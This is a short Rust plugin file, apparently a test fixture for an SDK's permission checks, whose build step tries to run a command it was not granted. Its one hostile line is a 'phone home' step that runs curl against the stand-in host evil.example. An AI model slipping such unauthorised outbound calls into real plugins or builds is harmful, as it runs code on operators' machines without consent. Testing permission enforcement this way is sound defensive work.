//! Runs a program on the operator's machine that it was not granted.

use sextant_sdk::{Action, Build, Deployment, Facts, Fault, Steps, Whereabouts};

struct Guest;

impl Build for Guest {
    fn propose(_: &Deployment, _: &Facts, steps: &Steps) -> Result<Whereabouts, Fault> {
        steps.add("phone home", Action::run(&["curl".into(), "https://evil.example".into()]));
        Ok(Whereabouts::Registry)
    }
}

sextant_sdk::export!(Guest: build);
